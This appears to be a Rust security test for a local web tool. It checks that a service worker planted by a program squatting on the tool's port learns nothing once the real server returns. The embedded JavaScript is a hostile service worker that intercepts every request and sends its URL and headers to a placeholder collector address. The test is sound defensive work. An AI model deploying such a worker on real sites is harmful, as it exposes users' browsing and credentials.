//! A program that has the gate's port while the gate does not run, as any program of the machine may,
//! and what remains of it in a browser.

use std::cell::RefCell;
use std::sync::Arc;

use serde_json::{Value, json};
use testkit::foreign;
use testkit::program::{run, stdout};
use testkit::wait::eventually;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpListener;
use tokio::sync::Mutex;
use tokio_util::task::AbortOnDropHandle;

use super::alive::start_again;
use super::{nothing, play};

/// The reports of the worker, oldest first.
type Seen = Arc<Mutex<Vec<String>>>;

/// Registers a worker, and reports the whole address of whatever it is shown at.
const PAGE: &str = "<!doctype html><title>the worker answers</title><h1>the worker answers</h1>\
    <script src=\"/script.js\"></script>";
const SCRIPT: &str = "fetch('COLLECTOR?' + encodeURIComponent(location.href), { mode: 'no-cors' });\
    navigator.serviceWorker.register('/worker.js');";

/// Answers every request with the page above, and reports it with its headers and body.
const WORKER: &str = "\
    addEventListener('install', () => skipWaiting());\
    addEventListener('activate', (event) => event.waitUntil(clients.claim()));\
    addEventListener('fetch', (event) => {\
      const { method, url, headers } = event.request;\
      const told = JSON.stringify({ method, url, headers: [...headers] });\
      const isScript = url.endsWith('/script.js');\
      event.waitUntil(fetch('COLLECTOR?' + encodeURIComponent(told), { mode: 'no-cors' }));\
      const type = isScript ? 'text/javascript' : 'text/html';\
      event.respondWith(new Response(isScript ? SCRIPT : PAGE, { headers: { 'content-type': type } }));\
    });";

/// Answers each connection once with what `answer` makes of its target.
async fn serve(
    listener: TcpListener,
    answer: impl AsyncFn(&str) -> (&'static str, String) + Send + Sync + 'static,
) {
    while let Ok((mut stream, _)) = listener.accept().await {
        let mut head = vec![0; 16 * 1024];
        let read = stream.read(&mut head).await.unwrap_or(0);
        let head = String::from_utf8_lossy(&head[..read]).into_owned();
        let target = head.split(' ').nth(1).unwrap_or_default();
        let (kind, body) = answer(target).await;
        let head = format!(
            "HTTP/1.1 200 OK\r\ncontent-type: {kind}\r\ncontent-length: {}\r\n\
             connection: close\r\n\r\n",
            body.len()
        );
        let _ = stream.write_all(format!("{head}{body}").as_bytes()).await;
    }
}

#[tokio::test]
async fn a_worker_that_another_program_left_learns_nothing_of_the_page() {
    if !foreign::are_here_or_skipped() {
        return;
    }
    let seen = Seen::default();
    let collector = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let address = format!("http://{}/", collector.local_addr().unwrap());
    let noted = seen.clone();
    let collecting = serve(collector, async move |target: &str| {
        let url = reqwest::Url::parse(&format!("http://collector{target}")).unwrap();
        noted.lock().await.extend(url.query_pairs().map(|(told, _)| told.into_owned()));
        ("text/plain", String::new())
    });
    let _collecting = AbortOnDropHandle::new(tokio::spawn(collecting));
    let script = SCRIPT.replace("COLLECTOR", &address);
    let worker = WORKER.replace("SCRIPT", &json!(script).to_string());
    let worker = worker.replace("PAGE", &json!(PAGE).to_string()).replace("COLLECTOR", &address);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let plain = listener.local_addr().unwrap().to_string();
    let squatting = serve(listener, async move |target: &str| match target {
        "/script.js" => ("text/javascript", script.clone()),
        "/worker.js" => ("text/javascript", worker.clone()),
        _ => ("text/html", PAGE.to_owned()),
    });
    let squatting = RefCell::new(Some(AbortOnDropHandle::new(tokio::spawn(squatting))));
    let dir = tempfile::tempdir().unwrap();
    let serving = RefCell::new(None);
    let act = async |what: &str, args: Value| match what {
        "serve" => {
            drop(squatting.take());
            serving.replace(Some(start_again(dir.path(), &plain).await));
            json!({})
        }
        "link" => json!({"link": stdout(&run(dir.path(), ["page"]).await).trim()}),
        "seen" => {
            let part = args["part"].as_str().unwrap();
            let has_it = || async {
                let seen = seen.lock().await;
                seen.iter().any(|what| what.contains(part)).then_some(())
            };
            eventually(has_it).await;
            json!({})
        }
        "all seen" => json!({"seen": *seen.lock().await}),
        what => nothing(what, args).await,
    };
    let scene = json!({"plain": format!("http://{plain}")});
    play(dir.path(), ("squatter.mjs", scene), act).await;
}
